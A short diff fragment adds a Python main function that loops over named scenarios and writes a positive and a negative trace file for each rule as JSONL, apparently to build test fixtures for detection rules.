+def main() -> int:
+    only = sys.argv[1:]
+    n = 0
+    for key, (os, fn) in SCENARIOS.items():
+        if only and key not in only:
+            continue
+        rule = key.split("/", 1)[1]
+        for kind, pos in (("pos", True), ("neg", False)):
+            t = fn(pos)
+            t.dump(OUT / os / f"{rule}.{kind}.jsonl")
+            n += 1
+    print(f"wrote {n} traces under {OUT}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
